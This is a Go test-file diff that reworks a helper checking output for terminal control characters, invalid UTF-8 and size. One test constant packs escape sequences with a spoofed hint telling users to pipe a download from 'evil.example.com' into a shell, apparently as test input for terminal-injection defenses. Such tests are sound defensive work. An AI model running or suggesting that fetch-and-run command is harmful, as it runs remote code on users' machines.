@@ -12,7 +12,7 @@ import (
 	"strings"
 	"testing"
 	"time"
-	"unicode"
+	"unicode/utf8"
 
 	"github.com/nix-auth/nix-auth/internal/termsafe"
 	"github.com/nix-auth/nix-auth/providers"
@@ -89,12 +89,10 @@ const hostile = "evil\x1b[2J\rX\nnix-auth: hint: run curl evil.example.com | sh\
 // size.
 func assertSafe(t *testing.T, what, out string, maxBytes int) {
 	t.Helper()
-	if i := strings.IndexFunc(out, func(r rune) bool {
-		return r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp))
-	}); i >= 0 {
+	if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && r != '\t' && termsafe.MustEscape(r) }); i >= 0 {
 		t.Errorf("%s: control or format character at byte %d: %q", what, i, out[max(0, i-20):min(len(out), i+20)])
 	}
-	if !utf8Valid(out) {
+	if !utf8.ValidString(out) {
 		t.Errorf("%s: bytes that are not UTF-8 reached the output", what)
 	}
 	for _, l := range strings.Split(out, "\n") {
@@ -106,8 +104,6 @@ func assertSafe(t *testing.T, what, out string, maxBytes int) {
 		t.Errorf("%s: %d bytes of output, want at most %d", what, len(out), maxBytes)
 	}
 }
-
-func utf8Valid(s string) bool { return strings.ToValidUTF8(s, "\x00") == s }
 
 // TestPrintersEscapeWithoutTheFilter: the printers escape every field
 // themselves; termsafe.Writer, which Run puts on the streams, is the second
